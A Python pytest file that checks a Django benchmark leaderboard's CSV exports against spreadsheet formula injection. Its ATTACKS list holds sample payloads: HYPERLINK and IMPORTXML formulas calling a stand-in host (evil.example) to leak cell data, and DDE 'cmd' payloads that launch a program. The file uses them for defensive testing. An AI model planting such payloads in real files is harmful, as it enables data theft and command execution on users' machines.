"""No cell of any CSV of the site is a formula, whatever strangers write; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from typing import Any

import pytest
from django.test import Client

from evaluation.cells import neutral
from evaluation.models import Benchmark, Case, Evidence, Verdict
from leaderboard import official
from leaderboard.exports import csv_text
from tests import make

STARTS = "=+-@＝＋－＠﹦﹢﹣﹫⁼⁺⁻₌₊₋−"
BEFORE = ("", " ", "   ", "\u00a0", "\u2003", "\ufeff", "\u200b", "\u202e", "\x0b", "\x0c", "\x1b")
BREAKING = ("\t=1", "\r=1", "\n=1", "\r\n=1", "\0=1", " \t1", "\tplain")
ATTACKS = (
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML("https://evil.example","//a")',
    "=WEBSERVICE(A1)",
    '"=1+1"',
    "x\n=1+1",
    'x","=1+1',
    "x\r\n=1+1,=2+2",
)
PLAIN = ("Qwen3-8B", "a=b", "1-2", "a@b.org", "", "'=1", "#1", "…-", "日本", "(−1)")
RUNS_IN = frozenset("=+-@\t\r\n\0")  # what a spreadsheet acts on at a cell's beginning


@pytest.mark.parametrize("start", STARTS)
@pytest.mark.parametrize("before", BEFORE, ids=repr)
def test_text_that_begins_like_a_formula_gets_an_apostrophe(before: str, start: str) -> None:
    cell = f"{before}{start}1+1"

    assert neutral(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", BREAKING)
def test_what_splits_cells_gets_one_too(cell: str) -> None:
    assert neutral(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", [*PLAIN, -0.5, 0.25, -7, 7, 1e-9, True, None])
def test_everything_else_is_left_as_it_is(cell: Any) -> None:
    assert neutral(cell) is cell


def test_numbers_stay_numbers_in_the_file() -> None:
    text = csv_text([[-0.5, -7, "-7"]]).decode()

    assert text.strip() == "-0.5,-7,'-7"


def cells(content: bytes) -> list[str]:
    return [one for row in csv.reader(io.StringIO(content.decode(), newline="")) for one in row]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.fixture
def board(db: None) -> int:
    """A model for each attack, in every word of its card and its verdicts; one of the runs."""
    make.real_benchmark({"simple_python": 2, "irrelevance": 1})
    for number, attack in enumerate([*ATTACKS, *(f"{start}1+1" for start in STARTS)]):
        card = make.card(attack, slug=f"m-{number}", organisation=attack, licence=attack)
        run = make.finished_run(make.entry(card), 0)
    case = Case.objects.earliest("pk")
    body = {"choices": [{"message": {"content": ATTACKS[0]}}]}
    make.reply(run, case, json.dumps(body).encode(), finish_reason="=1+1")
    Verdict.objects.filter(scoring__run=run).update(message=ATTACKS[1], where=ATTACKS[0][:60])
    return run.pk


def test_no_file_of_the_site_holds_a_formula(board: int) -> None:
    client, files = Client(), {}
    for path in ("/bfcl-v4/?format=csv", f"/runs/{board}/samples.csv"):
        page = client.get(path)
        content = b"".join(page) if page.streaming else page.content
        files[path] = cells(content)
    with zipfile.ZipFile(io.BytesIO(b"".join(client.get(f"/runs/{board}/export.zip")))) as packed:
        files |= {name: cells(packed.read(name)) for name in packed.namelist() if ".csv" in name}
    tables = official.tables(Benchmark.objects.get(), [Evidence.VERIFIED])
    files |= {name: cells(content) for name, content in tables.items()}

    assert len(files) >= 6
    for path, found in files.items():
        running = [one for one in found if one[:1] in RUNS_IN and not is_number(one)]
        assert [one for one in running if one] == [], path
